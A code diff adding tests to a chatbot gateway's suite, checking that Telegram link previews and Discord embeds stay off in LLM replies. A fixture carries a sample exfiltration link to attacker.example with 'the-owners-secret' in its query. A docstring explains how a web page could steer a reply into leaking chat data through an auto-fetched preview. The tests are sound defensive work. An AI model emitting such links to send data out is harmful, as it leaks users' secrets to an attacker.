@@ -99,6 +99,33 @@ async def test_discord_edits_the_same_way(config: Config, dc: FakeDiscord, llm: 
     assert len(dc.sent) == 1 and all(e["message_id"] == dc.sent[0]["id"] for e in dc.edits)
 
 
+LINKED = "Here is what you asked for: https://attacker.example/?q=the-owners-secret, streamed in small pieces."
+
+
+async def test_telegram_never_previews_a_replys_link(config: Config, tg: FakeTelegram, llm: FakeOpenAI) -> None:
+    """Telegram's servers fetch a link to preview it, at once: a reply a web page steered could
+    hand what the chat knows to an address in a link, with nobody clicking it."""
+    llm.script(reply(LINKED))
+    async with running_gateway(config, pace=EDITS_FAST):
+        tg.push_text(ALICE, ALICE, "tell me")
+        await tg.wait_until(lambda: any(e.get("parse_mode") == "HTML" for e in tg.edits), timeout=10)
+    assert tg.sent and tg.edits
+    assert all(m.get("link_preview_options") == {"is_disabled": True} for m in tg.sent + tg.edits)
+
+
+async def test_discord_never_embeds_a_replys_link(config: Config, dc: FakeDiscord, llm: FakeOpenAI) -> None:
+    d = config.channels.discord
+    d.enabled, d.token, d.api_base, d.gateway_url, d.allow_from = True, dc.token, dc.api_base, dc.gateway_url, [
+        str(FRIEND)]
+    config.channels.telegram.enabled = False
+    llm.stream_piece_chars = 400
+    llm.script(reply(LINKED * 30))  # over 2,000 characters: the streamed message, then one sent after it
+    async with running_gateway(config, pace=EDITS_FAST):
+        await dc.push_message(DM, FRIEND, "tell me", username="friend")
+        await dc.wait_sent(2, timeout=10)
+    assert all(m["flags"] & 4 for m in dc.sent)  # SUPPRESS_EMBEDS
+
+
 async def test_stop_during_streaming_stops_cleanly(config: Config, tg: FakeTelegram, llm: FakeOpenAI) -> None:
     llm.stream_interval = 0.05
     llm.script(reply(LONG * 5), reply("next answer"))
